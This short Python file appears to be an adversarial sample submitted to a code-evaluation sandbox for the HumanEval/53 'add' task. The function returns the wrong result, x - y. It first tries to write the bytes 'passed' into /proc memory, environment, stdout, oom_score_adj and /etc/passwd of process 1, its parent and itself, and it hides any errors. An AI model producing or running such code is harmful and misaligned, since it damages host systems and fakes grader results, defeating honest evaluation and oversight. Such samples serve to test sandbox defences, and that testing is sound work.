"""Opens the memory of its parent, of process 1 and of itself for writing.

exam: HumanEval/53
cause: wrong-answer crashed raised flood bad-reply
"""

import os


def add(x, y):
    for process in (1, os.getppid(), "self"):
        for name in ("mem", "environ", "root/etc/passwd", "cwd", "exe", "fd/1", "oom_score_adj"):
            try:
                with open(f"/proc/{process}/{name}", "r+b", buffering=0) as file:
                    file.write(b"passed")
            except (OSError, ValueError):
                pass
    return x - y
